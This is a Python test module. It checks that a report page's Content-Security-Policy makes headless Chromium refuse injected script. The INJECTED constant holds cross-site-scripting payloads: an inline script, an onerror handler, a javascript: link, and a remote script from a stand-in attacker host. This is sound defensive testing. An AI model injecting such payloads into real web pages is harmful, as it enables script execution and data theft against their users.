"""Issue 24 §8: the fleet report's Content-Security-Policy blocks script, in Chromium.

The page escapes every value (tests/test_fleet_report_browser.py shows hostile values as
text); the policy is the second wall, for the day a value gets through unescaped. Here
markup is injected into the rendered page as such a bug would, and headless Chromium
(Playwright driving the system's browser) must refuse to run it. The same page without
the policy runs it, so the test proves the policy, not the browser's mood. The whole
policy string is pinned: weakening any directive fails here.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fleet_samples import NOW, incident_fleet
from test_fleet_report_browser import ARGS, _chromium

from shared.alerts.rules import load_rules
from shared.report.fleet import build_fleet
from shared.report.fleet_page import render_fleet_html

RULES = load_rules()
# The policy, whole: no script of any kind, no remote load, styles only inline (the page
# is one self-contained file), images only as data: URLs, no <base>, no form posts.
POLICY = (
    "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
    "form-action 'none'"
)
CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# What a bug that let markup through could write: an inline script, an inline event
# handler, a javascript: URL to click, and a remote script.
INJECTED = (
    "<script>window.inlineScriptRan = true; document.title = 'pwned';</script>"
    '<img id="bad-img" src="data:image/png;base64,AAAA" '
    'onerror="window.handlerRan = true">'
    '<a id="bad-link" href="javascript:window.linkRan = true">x</a>'
    '<script src="https://attacker.invalid/x.js"></script>'
)


def fleet_page() -> str:
    return render_fleet_html(build_fleet(incident_fleet(), RULES, NOW))


def inject(page: str) -> str:
    assert page.count("<body>") == 1
    return page.replace("<body>", "<body>" + INJECTED, 1)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """As in tests/test_fleet_report_browser.py (a fixture imported from another test
    module would shadow its parameters); one Chromium for this module."""
    executable = _chromium()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        instance = playwright.chromium.launch(executable_path=executable, args=ARGS)
        yield instance
        instance.close()


class Opened:
    """A page opened from a file, with its console and its refused requests. Requests off
    the machine are aborted by the test too ("blockedbyclient"): a refusal by the policy
    shows as "csp", an abort by the test as net::ERR_BLOCKED_BY_CLIENT."""

    def __init__(self, browser: Any, path: Path) -> None:
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.page.set_default_timeout(10_000)
        self.console: list[str] = []
        self.refused: dict[str, str | None] = {}
        self.page.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))
        self.page.on("requestfailed", lambda r: self.refused.update({r.url: r.failure}))
        self.page.route("http*://**/*", lambda route: route.abort("blockedbyclient"))
        self.page.goto(path.as_uri(), wait_until="load")

    def ran(self, *, link_runs: bool = False) -> dict[str, bool]:
        """What ran; a ``javascript:`` link runs after the click returns, so the control
        waits for it (a loaded machine is slow), and the policy test gives it time too."""
        self.page.locator("#bad-link").click()
        if link_runs:
            self.page.wait_for_function("window.linkRan === true")
        else:
            self.page.wait_for_timeout(500)
        return self.page.evaluate(
            "() => ({inline: window.inlineScriptRan === true, handler: window.handlerRan"
            " === true, link: window.linkRan === true})"
        )

    def close(self) -> None:
        self.context.close()


def test_the_whole_policy_is_pinned() -> None:
    assert CSP_META.findall(fleet_page()) == [POLICY]


def test_the_policy_blocks_injected_script_in_chromium(browser: Any, tmp_path: Path) -> None:
    path = tmp_path / "fleet.html"
    path.write_text(inject(fleet_page()), encoding="utf-8")

    opened = Opened(browser, path)
    try:
        assert opened.ran() == {"inline": False, "handler": False, "link": False}
        assert opened.page.title().startswith("CA Rotation Watch: fleet report")
        refusals = [line for line in opened.console if "Content Security Policy" in line]
        assert len(refusals) >= 3, opened.console  # Chromium says why, for each
        assert all(line.startswith("error: ") for line in opened.console), opened.console
        assert opened.refused == {"https://attacker.invalid/x.js": "csp"}
    finally:
        opened.close()


def test_without_the_policy_the_same_injection_runs(browser: Any, tmp_path: Path) -> None:
    """The control: the browser runs all three when the page has no policy."""
    page = inject(fleet_page())
    path = tmp_path / "no-policy.html"
    path.write_text(CSP_META.sub("", page), encoding="utf-8")

    opened = Opened(browser, path)
    try:
        assert opened.ran(link_runs=True) == {"inline": True, "handler": True, "link": True}
        # Fetched, as far as the test lets it: aborted by the test's route, not the policy.
        failure = opened.refused["https://attacker.invalid/x.js"]
        assert failure is not None and failure.startswith("net::ERR_BLOCKED_BY_CLIENT")
    finally:
        opened.close()
